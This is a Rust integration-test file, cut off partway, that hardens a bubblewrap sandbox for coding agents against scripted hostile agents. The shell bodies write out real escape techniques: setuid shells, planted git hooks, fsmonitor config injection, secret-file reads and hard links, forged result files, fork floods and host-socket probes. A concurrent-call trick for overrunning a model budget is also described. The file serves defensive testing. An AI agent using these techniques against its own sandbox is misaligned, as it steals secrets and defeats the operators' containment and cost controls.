//! A hostile agent against the `bwrap` sandbox: command agents scripted as attackers, the
//! real coordinator and worker binaries, real bubblewrap and git. Each attack runs with an
//! ordinary-user worker and, where it applies, a root worker (whose sandboxes run as the
//! unprivileged `sandbox.host_uid`). Under root, the ordinary-user worker (and its
//! coordinator) run as [`TEST_USER`], made by `scripts/install-deps.sh test`; when the
//! tests do not run as root, the root-worker cases are skipped (they say so).
//!
//! The guarantees these tests hold are listed in docs/sandbox-security.md.

use ao_tests::scenario::events;
use ao_tests::{bare_repo, git, running_as_root, script, test_user, Cluster, TEST_USER};
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

const LIMIT: Duration = Duration::from_secs(120);

/// Who runs the worker.
#[derive(Clone, Copy, Debug)]
enum Worker {
    /// The worker runs as root; its sandboxes as `sandbox.host_uid`.
    Root,
    /// The worker runs as an unprivileged user; its sandboxes as that user.
    Ordinary,
}

/// A `bwrap` cluster whose worker runs as `who`; `None` (the case skipped) for a root
/// worker when the tests do not run as root.
fn cluster(who: Worker, extra: &[(&str, &str)]) -> Option<Cluster> {
    let mut settings = vec![("AO__SANDBOX__DRIVER", "bwrap")];
    settings.extend_from_slice(extra);
    let user = || {
        test_user().unwrap_or_else(|| {
            panic!("user {TEST_USER} is missing: run scripts/install-deps.sh test (as root)")
        })
    };
    match (who, running_as_root()) {
        (Worker::Root, true) => {
            user();
            Some(Cluster::new(&settings))
        }
        (Worker::Root, false) => {
            eprintln!("skipped: a root worker needs the tests to run as root");
            None
        }
        (Worker::Ordinary, true) => {
            let (uid, gid) = user();
            let mut c = Cluster::new(&settings);
            c.run_as(uid, gid);
            Some(c)
        }
        (Worker::Ordinary, false) => Some(Cluster::new(&settings)),
    }
}

/// A marker unique to this test run.
fn marker() -> String {
    format!(
        "{}{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .expect("clock after 1970")
            .subsec_nanos()
    )
}

async fn submit(c: &Cluster, repo: &Path, branch: &str) -> String {
    c.submit_code(repo, branch, "attack the sandbox")
        .await
        .expect("submit")
}

async fn finished(c: &Cluster, id: &str) -> Value {
    c.wait_ended(id, LIMIT).await.expect("the task ends")
}

/// Every event of a task as one text, for searching.
async fn event_text(c: &Cluster, id: &str) -> String {
    serde_json::to_string(&events(c, id).await).expect("events encode")
}

/// Starts the cluster's coordinator and one worker whose agent is `body`.
async fn start(c: &mut Cluster, body: &str, extra: &[(&str, &str)]) {
    let agent = script(c.dir.path(), "agent.sh", body);
    c.start_coordinator().await.expect("coordinator starts");
    let mut settings = vec![("AO__AGENT__COMMAND", agent.to_str().expect("utf-8"))];
    settings.extend_from_slice(extra);
    c.start_worker(&settings);
}

/// Every scenario's processes run as [`TEST_USER`] (the ordinary worker, or a root
/// worker's sandboxes), whose RLIMIT_NPROC counts them all: the test of that limit runs
/// alone (write), the others together (read).
static TEST_USER_PROCESSES: tokio::sync::RwLock<()> = tokio::sync::RwLock::const_new(());

macro_rules! for_both_workers {
    ($scenario:ident: $root:ident, $ordinary:ident) => {
        #[tokio::test(flavor = "multi_thread")]
        async fn $root() {
            let _shared = TEST_USER_PROCESSES.read().await;
            $scenario(Worker::Root).await
        }
        #[tokio::test(flavor = "multi_thread")]
        async fn $ordinary() {
            let _shared = TEST_USER_PROCESSES.read().await;
            $scenario(Worker::Ordinary).await
        }
    };
}

/// Attack 1: the agent writes into the local repository it was cloned from: a setuid
/// copy of a shell, a hook for the next push, a push to `main`, a branch deletion.
/// Every write fails (the sandbox sees the repository read-only), and the agent's work
/// still reaches the task branch, pushed by the worker from the runner's bundle.
async fn local_repository_is_read_only(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    git(&repo, &["branch", "keep", "main"]);
    let main_before = git(&repo, &["rev-parse", "main"]);
    let body = format!(
        r#"
set +e
repo={repo}
cp /bin/sh "$repo/ao-suid" && chmod 4755 "$repo/ao-suid"
printf '#!/bin/sh\necho planted\n' > "$repo/hooks/post-receive" && chmod +x "$repo/hooks/post-receive"
echo hostile > hostile.txt
git -c user.name=a -c user.email=a@b add hostile.txt
git -c user.name=a -c user.email=a@b commit -qm hostile
git push -q --force "$repo" HEAD:refs/heads/main
git push -q "$repo" :refs/heads/keep
git reset -q --hard HEAD~1
echo work > work.txt
exit 0
"#,
        repo = repo.display()
    );
    start(&mut c, &body, &[]).await;
    let id = submit(&c, &repo, "agent/work").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    assert!(
        !repo.join("ao-suid").exists(),
        "the setuid copy was planted"
    );
    assert!(
        !repo.join("hooks/post-receive").exists(),
        "a hook was planted"
    );
    assert_eq!(
        git(&repo, &["rev-parse", "main"]),
        main_before,
        "main moved"
    );
    assert_eq!(git(&repo, &["branch", "--list", "keep"]).trim(), "keep");
    assert_eq!(git(&repo, &["show", "agent/work:work.txt"]), "work");
    let tip = git(&repo, &["rev-parse", "agent/work"]);
    assert_eq!(done["subtasks"][0]["outcome"]["commit"], tip.as_str());
}
for_both_workers!(local_repository_is_read_only:
    local_repository_is_read_only_root_worker, local_repository_is_read_only_ordinary_worker);

/// Attack 2: the agent makes the runner's git read its configuration — a broken `.git`
/// with a repository one directory up (git's discovery), and `.git/commondir` pointing
/// at another configuration — whose `core.fsmonitor` and `remote.*.receivepack` would
/// run inside the runner's `add`, `commit` and `push`, with the runner's secrets at hand.
/// Neither runs: the runner's git has its directory pinned and the redirects removed.
async fn git_configuration_of_the_agent_never_runs(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = r#"
set +e
hostile='f() { echo "HOSTILE-RAN ${ANTHROPIC_API_KEY:+with-model-key}" >&2; }; f'
echo change > change.txt
case "$AO_BRANCH" in
  agent/discovery)
    # A repository one directory up, found once .git no longer is one.
    git init -q .. 2>/dev/null
    git --git-dir=../.git config core.fsmonitor "$hostile"
    git --git-dir=../.git config remote.origin.url /nonexistent
    rm -f .git/HEAD
    ;;
  agent/commondir)
    mkdir -p ../other
    cp -r .git/. ../other/
    git --git-dir=../other config core.fsmonitor "$hostile"
    git --git-dir=../other config remote.origin.receivepack "sh -c '$hostile; exec git-receive-pack \"\$@\"' x"
    echo "$(cd ../other && pwd)" > .git/commondir
    ;;
esac
exit 0
"#;
    start(
        &mut c,
        body,
        &[
            ("AO_TEST_MODEL_KEY", "sk-hardening-test-key-0123"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
        ],
    )
    .await;
    for branch in ["agent/discovery", "agent/commondir"] {
        let id = submit(&c, &repo, branch).await;
        let done = finished(&c, &id).await;
        let text = event_text(&c, &id).await;
        assert!(
            !text.contains("HOSTILE-RAN"),
            "{branch}: the agent's git configuration ran in the runner\n{text}"
        );
        if done["status"] == "succeeded" {
            // Pushed from the runner's own configuration, to the real repository.
            let tip = git(&repo, &["rev-parse", branch]);
            assert_eq!(done["subtasks"][0]["outcome"]["commit"], tip.as_str());
        }
    }
}
for_both_workers!(git_configuration_of_the_agent_never_runs:
    git_configuration_of_the_agent_never_runs_root_worker,
    git_configuration_of_the_agent_never_runs_ordinary_worker);

/// Attack 3: the repository's `agent-setup.sh` looks for the run's secrets in its
/// environment and rewrites `.git/config` so that its `core.fsmonitor` runs in the
/// runner's commit. It finds no secret, and its configuration is gone before the commit.
async fn agent_setup_gets_no_secret_and_cannot_keep_config(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let setup = r#"#!/usr/bin/env bash
echo "SETUP-ENV ${ANTHROPIC_API_KEY:+model-key} ${AO_GIT_TOKEN:+git-token} ${AO_SECRET_NAMES:+names}"
git config core.fsmonitor 'f() { echo HOSTILE-RAN >&2; }; f'
"#;
    let repo = bare_repo(&root, "project", &[("agent-setup.sh", setup)]);
    start(
        &mut c,
        "echo change > change.txt",
        &[
            ("AO_TEST_MODEL_KEY", "sk-setup-test-key-0123"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/setup").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let text = event_text(&c, &id).await;
    assert!(text.contains("SETUP-ENV"), "setup did not run\n{text}");
    for leak in ["model-key", "git-token", "names", "HOSTILE-RAN"] {
        assert!(!text.contains(leak), "{leak} seen\n{text}");
    }
}
for_both_workers!(agent_setup_gets_no_secret_and_cannot_keep_config:
    agent_setup_gets_no_secret_root_worker, agent_setup_gets_no_secret_ordinary_worker);

/// Attack 4: the agent fails but forges its result where the runner used to write it
/// (`../result.json`, with the runner's own write blocked by a directory in the way):
/// a success with a fake commit; a link to a host file; a FIFO; `/dev/zero`. Each run
/// ends, failed as the agent did, with nothing of the forgery or the host file.
async fn the_result_cannot_be_forged(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let mark = marker();
    let host_file = root.join("host-only.txt");
    std::fs::write(&host_file, format!("host-content-{mark}")).expect("host file");
    let repo = bare_repo(&root, "project", &[]);
    let body = format!(
        r#"
set +e
mkdir -p ../result.partial
rm -f ../result.json
case "$AO_BRANCH" in
  agent/forged)
    echo '{{"kind":"succeeded","summary":"forged-{mark}","commit":"0123456789abcdef0123456789abcdef01234567","cost_usd":0}}' > ../result.json ;;
  agent/link) ln -s {host} ../result.json ;;
  agent/fifo) mkfifo ../result.json ;;
  agent/zero) ln -s /dev/zero ../result.json ;;
esac
echo "the agent fails"
exit 1
"#,
        host = host_file.display()
    );
    start(&mut c, &body, &[]).await;
    let mut ids = Vec::new();
    for branch in ["agent/forged", "agent/link", "agent/fifo", "agent/zero"] {
        ids.push((branch, submit(&c, &repo, branch).await));
    }
    for (branch, id) in ids {
        let done = finished(&c, &id).await;
        let outcome = &done["subtasks"][0]["outcome"];
        assert_eq!(done["status"], "failed", "{branch}: {done:#}\n{}", c.logs());
        assert_eq!(outcome["kind"], "agent_error", "{branch}: {done:#}");
        let text = done.to_string();
        assert!(
            !text.contains(&format!("forged-{mark}")),
            "{branch}: {text}"
        );
        assert!(
            !text.contains(&format!("host-content-{mark}")),
            "{branch}: {text}"
        );
        assert!(outcome["commit"].is_null(), "{branch}: {text}");
    }
    assert_eq!(git(&repo, &["branch", "--list"]).trim(), "* main");
}
for_both_workers!(the_result_cannot_be_forged:
    the_result_cannot_be_forged_root_worker, the_result_cannot_be_forged_ordinary_worker);

/// Attack 5: the agent reads the worker's `file:` secrets of settings other than the
/// three the sandbox used to hide (`github.webhook_secrets`, `nomad.token`), and the
/// file of the model key it was given. Each is hidden.
async fn every_file_secret_is_hidden(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let mark = marker();
    let secrets = root.join("secrets");
    std::fs::create_dir_all(&secrets).expect("secrets dir");
    let mut refs = Vec::new();
    for name in ["webhook", "nomad", "model"] {
        let path = secrets.join(name);
        std::fs::write(&path, format!("{name}-secret-{mark}")).expect("secret file");
        refs.push(format!("file:{}", path.display()));
    }
    let repo = bare_repo(&root, "project", &[]);
    let body = format!(
        "for f in {dir}/*; do echo \"$f: $(cat \"$f\" 2>&1)\"; done > found.txt\n\
         ls -la {dir} >> found.txt 2>&1 || true",
        dir = secrets.display()
    );
    start(
        &mut c,
        &body,
        &[
            ("AO__GITHUB__WEBHOOK_SECRETS", refs[0].as_str()),
            ("AO__NOMAD__TOKEN", refs[1].as_str()),
            ("AO__AGENT__API_KEY", refs[2].as_str()),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/secrets").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let found = git(&repo, &["show", "agent/secrets:found.txt"]);
    assert!(!found.contains(&format!("-secret-{mark}")), "{found}");
}
for_both_workers!(every_file_secret_is_hidden:
    every_file_secret_is_hidden_root_worker, every_file_secret_is_hidden_ordinary_worker);

/// Attack 6 (root worker): the agent reads a root-only (0600) file and starts more
/// processes than `sandbox.max_processes`. Its sandbox runs as the unprivileged
/// `sandbox.host_uid`, so the file is unreadable and RLIMIT_NPROC applies.
#[tokio::test(flavor = "multi_thread")]
async fn a_root_worker_runs_the_agent_unprivileged() {
    use std::os::unix::fs::PermissionsExt;
    let _alone = TEST_USER_PROCESSES.write().await;
    let Some(mut c) = cluster(Worker::Root, &[("AO__SANDBOX__MAX_PROCESSES", "40")]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let mark = marker();
    let private = root.join("root-only.txt");
    std::fs::write(&private, format!("root-only-{mark}")).expect("file");
    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let repo = bare_repo(&root, "project", &[]);
    let body = format!(
        r#"
set +e
{{
  echo "read: $(cat {private} 2>&1)"
  echo "uid=$(id -u)"
  python3 -c '
import os, time
n = 0
for i in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    n += 1
print("forked=%d" % n)
for _ in range(n):
    os.wait()
'
}} > report.txt 2>&1
"#,
        private = private.display()
    );
    start(&mut c, &body, &[]).await;
    let id = submit(&c, &repo, "agent/root").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let report = git(&repo, &["show", "agent/root:report.txt"]);
    assert!(!report.contains(&format!("root-only-{mark}")), "{report}");
    let forked: u32 = report
        .lines()
        .find_map(|l| l.strip_prefix("forked="))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no fork count: {report}"));
    assert!(
        forked < 40,
        "{forked} processes despite a limit of 40\n{report}"
    );
}

/// A root worker without `sandbox.host_uid` refuses to start with `bwrap`, and says how
/// to run it.
#[tokio::test(flavor = "multi_thread")]
async fn a_root_worker_without_a_host_user_refuses_to_start() {
    if !running_as_root() {
        eprintln!("skipped: needs root");
        return;
    }
    let mut c = Cluster::new(&[("AO__SANDBOX__DRIVER", "bwrap")]);
    c.env.retain(|(k, _)| !k.starts_with("AO__SANDBOX__HOST_"));
    c.start_worker(&[]);
    let code = {
        let w = &mut c.workers[0];
        let mut child = w.child.take().expect("started");
        let deadline = std::time::Instant::now() + Duration::from_secs(30);
        loop {
            if let Some(status) = child.try_wait().expect("wait") {
                break status.code();
            }
            assert!(std::time::Instant::now() < deadline, "the worker started");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    assert_ne!(code, Some(0));
    let log = c.workers[0].log_text();
    assert!(log.contains("sandbox.host_uid"), "{log}");
}

/// Attack 8: the agent prints the model key it holds, so that it would become the
/// outcome's summary, the commit message and event data. It is redacted from each. The
/// capability's network is `open` here: in the default proxy mode the key never enters
/// the sandbox at all (sandbox_limits.rs and e2e_claude.rs hold that).
async fn the_model_key_is_redacted_everywhere(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let key = format!("sk-redaction-{}", marker());
    let repo = bare_repo(&root, "project", &[]);
    let body = r#"
echo change > change.txt
echo "the key is $ANTHROPIC_API_KEY"
echo "as json: {\"k\":\"$ANTHROPIC_API_KEY\"}"
"#;
    start(
        &mut c,
        body,
        &[
            ("AO_TEST_MODEL_KEY", key.as_str()),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
            ("AO__SANDBOX__NETWORK_OPEN", "coder"),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/redact").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let summary = done["subtasks"][0]["outcome"]["summary"].to_string();
    assert!(summary.contains("the key is [redacted]"), "{summary}");
    assert!(!done.to_string().contains(&key), "{done:#}");
    let message = git(&repo, &["log", "-1", "--format=%B", "agent/redact"]);
    assert!(!message.contains(&key), "{message}");
    let text = event_text(&c, &id).await;
    assert!(!text.contains(&key), "{text}");
    assert!(!c.coordinator_log().contains(&key));
    assert!(!c.workers[0].log_text().contains(&key));
}
for_both_workers!(the_model_key_is_redacted_everywhere:
    the_model_key_is_redacted_root_worker, the_model_key_is_redacted_ordinary_worker);

/// A model call of the agent's, straight to the model endpoint the sandbox is given
/// (`$ANTHROPIC_BASE_URL`, the worker's proxy); prints the HTTP status. Its conversation
/// holds one assistant message, so the scripted model answers its step 1.
fn model_call(path: &str) -> String {
    format!(
        "curl -s -o /dev/null -w '%{{http_code}}\\n' -H 'content-type: application/json' \
         -H 'anthropic-version: 2023-06-01' \"$ANTHROPIC_BASE_URL{path}\" \
         -d '{{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":10,\"messages\":[\
         {{\"role\":\"user\",\"content\":\"x\"}},{{\"role\":\"assistant\",\"content\":\"y\"}},\
         {{\"role\":\"user\",\"content\":\"z\"}}]}}'"
    )
}

/// Attack 9: Claude Code's Bash tool starts eight model calls at once, each costing $1,
/// under a budget of $0.50, so that every one passes the budget check before any is
/// metered (before: all eight were answered, $8 against $0.50). The proxy lets one
/// Messages call run at a time while a budget is set: the first is answered, the rest
/// (and Claude Code's own next call) are refused, and the run is `budget_exceeded` at
/// the metered $1.
async fn concurrent_model_calls_stay_within_the_budget(who: Worker) {
    use ao_tests::model_server::{claude_cli, ModelServer, Step, Turn, MODEL};
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let burst = format!(
        "for i in 1 2 3 4 5 6 7 8; do ( {call} > /tmp/code-$i ) & done; wait; \
         echo \"codes: $(cat /tmp/code-* | sort | tr '\\n' ' ')\"",
        call = model_call("/v1/messages")
    );
    // Step 0 (Claude Code's first call) is nearly free and runs the burst; step 1 (each
    // call of the burst, and Claude Code's next one) costs $1.00 (333,334 input tokens
    // at $3 per million) and takes 1 s, so the calls overlap.
    let model = ModelServer::start(vec![
        Turn::new(Step::tool("Bash", json!({ "command": burst })), 10, 10),
        Turn::new(
            Step::Delay(Duration::from_secs(1), Box::new(Step::text("done"))),
            333_334,
            1,
        ),
    ])
    .await;
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let cli = claude_cli().display().to_string();
    start(
        &mut c,
        "exit 1",
        &[
            ("AO__AGENT__KIND", "claude"),
            ("AO__AGENT__COMMAND", cli.as_str()),
            ("AO_TEST_MODEL_KEY", "sk-ant-budget-0123456789"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
            ("AO__AGENT__BASE_URL", model.url.as_str()),
            ("AO__AGENT__PROFILES__CODER__MODEL", MODEL),
            ("AO__AGENT__PROFILES__CODER__MAX_COST_USD", "0.5"),
            ("AO__COORDINATOR__MAX_ATTEMPTS", "1"),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/budget").await;
    let done = finished(&c, &id).await;
    let text = event_text(&c, &id).await;
    let costly = model
        .requests()
        .iter()
        .filter(|r| {
            r.body["messages"]
                .as_array()
                .is_some_and(|m| m.iter().any(|m| m["role"] == "assistant"))
        })
        .count();
    assert_eq!(
        costly,
        1,
        "{costly} $1 calls reached the model under a $0.50 budget\n{text}\n{}",
        c.logs()
    );
    let s = &done["subtasks"][0];
    assert_eq!(s["outcome"]["kind"], "budget_exceeded", "{done:#}");
    let cost = s["cost_usd"].as_f64().expect("cost");
    assert!((cost - 1.0).abs() < 0.01, "metered cost {cost}");
    assert!(
        text.contains("codes: 200 403 403 403 403 403 403 403"),
        "{text}"
    );
}
for_both_workers!(concurrent_model_calls_stay_within_the_budget:
    concurrent_model_calls_stay_within_the_budget_root_worker,
    concurrent_model_calls_stay_within_the_budget_ordinary_worker);

/// A listening unix socket of the host, open to every user (mode 0777), answering
/// `answer`; counts connections.
fn host_socket(path: &Path, answer: String) -> Arc<AtomicUsize> {
    use std::os::unix::fs::PermissionsExt;
    let _ = std::fs::remove_file(path);
    let listener = std::os::unix::net::UnixListener::bind(path).expect("bind socket");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            counter.fetch_add(1, Ordering::SeqCst);
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    hits
}

/// Attack 10: host unix sockets the worker's list of sockets misses: one whose path has
/// a space, one bound with a relative path, and one made after the sandbox started
/// (the agent asks for it through an allow-listed host, which makes it, then answers).
/// All are open to every user. None connects (before: all three did).
async fn host_sockets_out_of_the_list_are_unreachable(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let mark = marker();
    let dir = Path::new("/var/tmp");
    let spaced = dir.join(format!("ao sock {mark}.sock"));
    let relative = dir.join(format!("ao-rel-{mark}.sock"));
    let late = dir.join(format!("ao-late-{mark}.sock"));
    let spaced_hits = host_socket(&spaced, format!("spaced-{mark}"));
    // Bound by another process, by a relative path (as /proc/net/unix then shows it).
    let relative_hits = dir.join(format!("ao-rel-{mark}.hit"));
    let mut binder = std::process::Command::new("python3")
        .current_dir(dir)
        .arg("-c")
        .arg(format!(
            "import socket, os\n\
             s = socket.socket(socket.AF_UNIX)\n\
             s.bind('ao-rel-{mark}.sock')\n\
             os.chmod('ao-rel-{mark}.sock', 0o777)\n\
             s.listen(8)\n\
             print('ready', flush=True)\n\
             while True:\n\
             \x20   c, _ = s.accept()\n\
             \x20   open('ao-rel-{mark}.hit', 'a').write('hit')\n\
             \x20   c.sendall(b'relative-{mark}')\n\
             \x20   c.close()\n"
        ))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3 binds the relative socket");
    {
        use std::io::BufRead;
        let mut line = String::new();
        std::io::BufReader::new(binder.stdout.take().expect("stdout"))
            .read_line(&mut line)
            .expect("ready line");
        assert_eq!(line.trim(), "ready");
    }
    // The late socket is made when the agent, already running, asks for it.
    let go = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let go_port = go.local_addr().expect("addr").port();
    let late_hits = Arc::new(parking_lot::Mutex::new(None::<Arc<AtomicUsize>>));
    {
        let late = late.clone();
        let late_hits = late_hits.clone();
        let mark = mark.clone();
        std::thread::spawn(move || {
            for mut stream in go.incoming().flatten() {
                let mut buf = [0u8; 1024];
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let _ = stream.read(&mut buf);
                late_hits
                    .lock()
                    .get_or_insert_with(|| host_socket(&late, format!("late-{mark}")));
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\ngo"
                );
            }
        });
    }
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = format!(
        r#"
set +e
try() {{ python3 -c 'import socket,sys
s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(sys.argv[1]); print(s.recv(100).decode())' "$1" 2>&1 | tail -1; }}
echo "go: $(curl -s -m 30 http://127.0.0.1:{go_port}/go)"
echo "spaced: $(try '{spaced}')"
echo "relative: $(try '{relative}')"
echo "late: $(try '{late}')"
# Control: a socket of the sandbox's own connects, so the probe itself works.
python3 -c 'import socket,threading
l = socket.socket(socket.AF_UNIX); l.bind("/tmp/own.sock"); l.listen(1)
threading.Thread(target=lambda: l.accept()[0].sendall(b"own-ok"), daemon=True).start()
s = socket.socket(socket.AF_UNIX); s.connect("/tmp/own.sock"); print("control:", s.recv(10).decode())'
echo change > change.txt
"#,
        spaced = spaced.display(),
        relative = relative.display(),
        late = late.display(),
    );
    let allow = format!("127.0.0.1:{go_port}");
    start(
        &mut c,
        &body,
        &[("AO__SANDBOX__ALLOW_HOSTS", allow.as_str())],
    )
    .await;
    let id = submit(&c, &repo, "agent/sockets").await;
    let done = finished(&c, &id).await;
    let _ = binder.kill();
    let _ = binder.wait();
    let text = event_text(&c, &id).await;
    let late_count = late_hits.lock().as_ref().map(|h| h.load(Ordering::SeqCst));
    let relative_reached = relative_hits.exists();
    for p in [&spaced, &relative, &late, &relative_hits] {
        let _ = std::fs::remove_file(p);
    }
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    assert!(
        text.contains("go: go"),
        "the late socket was never made\n{text}"
    );
    assert!(
        text.contains("control: own-ok"),
        "the probe does not work\n{text}"
    );
    assert_eq!(late_count, Some(0), "the late socket was reached\n{text}");
    assert_eq!(
        spaced_hits.load(Ordering::SeqCst),
        0,
        "the socket with a space was reached\n{text}"
    );
    assert!(!relative_reached, "the relative socket was reached\n{text}");
    assert!(!text.contains(&format!("-{mark}")), "{text}");
}
for_both_workers!(host_sockets_out_of_the_list_are_unreachable:
    host_sockets_out_of_the_list_are_unreachable_root_worker,
    host_sockets_out_of_the_list_are_unreachable_ordinary_worker);

/// What is left in the worker's work directory but the staged runner (`bin`): attempt
/// directories, or parts of them.
fn attempt_dirs(c: &Cluster) -> Vec<String> {
    std::fs::read_dir(c.dir.path().join("work"))
        .map(|d| {
            d.flatten()
                // The worker's own: the runner binary and the spend ledger.
                .filter(|e| e.file_name() != "bin" && e.file_name() != ".spend-ledger")
                .map(|e| e.path().display().to_string())
                .collect()
        })
        .unwrap_or_default()
}

/// Attack 11: the agent writes 64 MiB into the attempt directory around its working
/// copy (a host directory; before: written, so the host disk could be filled), and leaves
/// a `chmod 555` directory holding a `chmod 000` one there (before: the ordinary-user
/// worker's cleanup failed and the attempt directory stayed). Every write is bounded
/// and nothing of the attempt is left on the host.
async fn the_attempt_directory_is_bounded_and_cleaned_up(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = r#"
set +e
# The working copy is ws/repo in the attempt directory.
attempt=../..
if dd if=/dev/zero of=$attempt/fill bs=1M count=64 2>/dev/null; then echo "attempt=filled"; else echo "attempt=bounded"; fi > probe.txt
rm -f $attempt/fill
mkdir -p $attempt/locked/inner && touch $attempt/locked/inner/file && chmod 000 $attempt/locked/inner && chmod 555 $attempt/locked
ls -la $attempt $attempt/locked >> probe.txt 2>&1
"#;
    start(&mut c, body, &[]).await;
    let id = submit(&c, &repo, "agent/disk").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let probe = git(&repo, &["show", "agent/disk:probe.txt"]);
    let left = attempt_dirs(&c);
    assert!(
        left.is_empty(),
        "attempt directories left: {left:?}\n{probe}"
    );
    assert!(probe.contains("attempt=bounded"), "{probe}");
}
for_both_workers!(the_attempt_directory_is_bounded_and_cleaned_up:
    the_attempt_directory_is_bounded_and_cleaned_up_root_worker,
    the_attempt_directory_is_bounded_and_cleaned_up_ordinary_worker);

/// Attack 12: the agent reads the sandbox's init's command line and its own working
/// directory for the host's layout: the worker's executable and the attempt directory
/// under the worker's work directory. Neither names a host path of the worker.
async fn the_agent_sees_no_host_path_of_the_worker(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = r#"
{ echo "init: $(tr '\0' ' ' < /proc/1/cmdline)"; echo "pwd: $(pwd)"; } > layout.txt
"#;
    start(&mut c, body, &[]).await;
    let id = submit(&c, &repo, "agent/layout").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let layout = git(&repo, &["show", "agent/layout:layout.txt"]);
    let work = root.join("work").display().to_string();
    let bin = ao_tests::bin_dir().display().to_string();
    assert!(layout.contains("init: "), "{layout}");
    for host in [&work, &bin, &root.join("bin").display().to_string()] {
        assert!(!layout.contains(host.as_str()), "{host} seen:\n{layout}");
    }
}
for_both_workers!(the_agent_sees_no_host_path_of_the_worker:
    the_agent_sees_no_host_path_of_the_worker_root_worker,
    the_agent_sees_no_host_path_of_the_worker_ordinary_worker);

/// Attack 13: the agent hard-links the worker's secret files (a `file:` secret under
/// the worker's directories, and one inside the local repository the sandbox is shown)
/// into every place it can write, and reads them. No link is made (every writable place
/// is another file system than the secrets', and protected_hardlinks holds for the
/// rest), no host file gains a link, and neither secret is read (before: the one inside
/// the repository was readable, re-exposed by the repository's mount).
async fn no_secret_file_is_reachable_by_a_hard_link(who: Worker) {
    use std::os::unix::fs::MetadataExt;
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let mark = marker();
    let repo = bare_repo(&root, "project", &[]);
    let secrets = root.join("secrets");
    std::fs::create_dir_all(&secrets).expect("secrets dir");
    let hidden = secrets.join("model");
    let in_repo = repo.join("nomad-token");
    std::fs::write(&hidden, format!("model-secret-{mark}")).expect("secret");
    std::fs::write(&in_repo, format!("nomad-secret-{mark}")).expect("secret");
    let body = format!(
        r#"
set +e
n=0
for secret in '{hidden}' '{in_repo}'; do
  for dir in . .. /tmp "$HOME" /dev/shm; do
    n=$((n+1))
    if ln "$secret" "$dir/link-$n" 2>/dev/null; then echo "linked $secret in $dir: $(cat "$dir/link-$n")"; fi
    rm -f "$dir/link-$n"
  done
  echo "read $secret: $(cat "$secret" 2>&1)"
done > links.txt
"#,
        hidden = hidden.display(),
        in_repo = in_repo.display(),
    );
    let model_ref = format!("file:{}", hidden.display());
    let nomad_ref = format!("file:{}", in_repo.display());
    start(
        &mut c,
        &body,
        &[
            ("AO__AGENT__API_KEY", model_ref.as_str()),
            ("AO__NOMAD__TOKEN", nomad_ref.as_str()),
